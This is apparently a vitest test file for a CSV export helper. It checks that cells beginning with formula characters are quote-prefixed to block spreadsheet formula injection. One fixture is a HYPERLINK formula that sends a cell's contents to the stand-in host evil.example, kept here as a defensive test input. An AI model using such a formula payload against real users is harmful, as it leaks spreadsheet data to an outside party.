import { describe, expect, it } from 'vitest';
import { csvResponse } from './csv.ts';
import { routeSources } from '../test/route-sources.ts';

describe('the CSV writer', () => {
	it('prefixes every text cell that a spreadsheet would run as a formula with a quote', async () => {
		const texts = [
			'=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
			'+46 8 123 45',
			'-2+3',
			'@SUM(A1:A9)',
			'\t=1+1',
			'\r=1+1',
			'\uFF1D1+1',
			'\uFF20SUM(A1)'
		];
		const csv = await csvResponse(
			'x.csv',
			['text'],
			texts.map((t) => [t])
		).text();
		expect(csv.split('\r\n')).toEqual([
			'text',
			`"'=HYPERLINK(""https://evil.example/?""&A1,""Klicka här"")"`,
			"'+46 8 123 45",
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\t=1+1",
			`"'\r=1+1"`,
			"'\uFF1D1+1",
			"'\uFF20SUM(A1)",
			''
		]);
	});

	it('keeps a line break inside its cell, so that no row can start with a formula', async () => {
		const csv = await csvResponse('x.csv', ['summary', 'n'], [['Rad ett\n=1+1\rtre', 1]]).text();
		expect(csv).toBe('summary,n\r\n"Rad ett\n=1+1\rtre",1\r\n');
	});

	it('leaves numbers as numbers and harmless text as typed', async () => {
		const bytes = new Uint8Array(
			await csvResponse(
				'x.csv',
				['lat', 'lon', 'n', 'name', 'none'],
				[[-33.9346, 18.861, 0, 'Hörby kommun; Ale kommun', null]]
			).arrayBuffer()
		);
		// The byte-order mark stays first, so Excel reads UTF-8.
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const csv = new TextDecoder().decode(bytes);
		expect(csv).toBe('lat,lon,n,name,none\r\n-33.9346,18.861,0,Hörby kommun; Ale kommun,\r\n');
	});

	it('writes every CSV answer of the routes (no route writes its own)', () => {
		const offenders = routeSources(/\.(ts|js)$/)
			.filter(({ source }) => {
				const answersCsv = /['"]csv['"]|\.csv['"`]/.test(source);
				return source.includes('text/csv') || (answersCsv && !/csv(Stream)?Response\(/.test(source));
			})
			.map(({ file }) => file);
		expect(offenders).toEqual([]);
	});
});
